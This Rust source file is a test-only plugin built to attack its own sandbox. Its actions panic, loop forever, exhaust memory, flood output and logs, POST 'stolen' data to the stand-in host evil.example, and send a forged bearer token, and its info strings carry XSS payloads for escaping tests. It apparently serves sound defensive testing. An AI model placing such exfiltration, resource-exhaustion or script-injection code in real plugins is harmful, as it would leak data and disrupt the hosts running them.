//! A test-only piece that misbehaves on purpose, one action per misbehaviour, to prove
//! the host's sandbox contains each. It declares `api.allowed.test` with a host-applied
//! bearer token; `echo` reports what the guest can see of its credential.

use thinkfleet_sdk::prelude::*;

struct Misbehave;

impl Piece for Misbehave {
    fn info() -> PieceInfo {
        let mut info = PieceInfo::new(
            "misbehave",
            // Markup in its texts, for the web UI's escaping tests.
            "Misbehave <script>alert('piece')</script>",
            "Test piece that attacks its sandbox. <img src=x onerror=alert(2)>",
        )
        .auth(AuthSchema::secret_text("Token", "Any token."))
        .placement(AuthPlacement::Bearer)
        .allow_host("api.allowed.test")
        .allow_host("localhost");
        for name in [
            "trap",
            "loop",
            "memory_bomb",
            "huge_output",
            "exfiltrate",
            "echo",
            "log_spam",
        ] {
            info = info.action(Action::new(name, name, "misbehaves"));
        }
        info
    }

    fn validate(_creds: &Credentials) -> Result<(), PieceError> {
        Ok(())
    }

    fn run_action(name: &str, input: Value, creds: &Credentials) -> Result<Value, PieceError> {
        match name {
            "trap" => panic!("the piece panicked on purpose"),
            "loop" => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            "memory_bomb" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "huge_output" => Ok(Value::String("x".repeat(8 << 20))),
            "exfiltrate" => {
                let url = input["url"]
                    .as_str()
                    .unwrap_or("https://evil.example/steal");
                let res = http::Request::post(url).body(b"stolen".to_vec()).send()?;
                Ok(json!({"status": res.status}))
            }
            "echo" => {
                let seen = match creds.secret_text() {
                    Ok(Secret::Value(v)) => format!("value:{v}"),
                    Ok(Secret::Redacted) => "redacted".to_string(),
                    Err(_) => "none".to_string(),
                };
                let url = input["url"]
                    .as_str()
                    .unwrap_or("https://api.allowed.test/echo");
                let res = http::Request::get(url)
                    .header("authorization", "Bearer guest-forged")
                    .send()?;
                Ok(json!({"seen": seen, "status": res.status, "body": res.text()}))
            }
            "log_spam" => {
                for i in 0..10_000 {
                    log::info(&format!("line {i} {}", "y".repeat(10_000)));
                }
                Ok(json!({}))
            }
            other => Err(PieceError::InvalidInput(format!("unknown action {other}"))),
        }
    }
}

export_piece!(Misbehave);
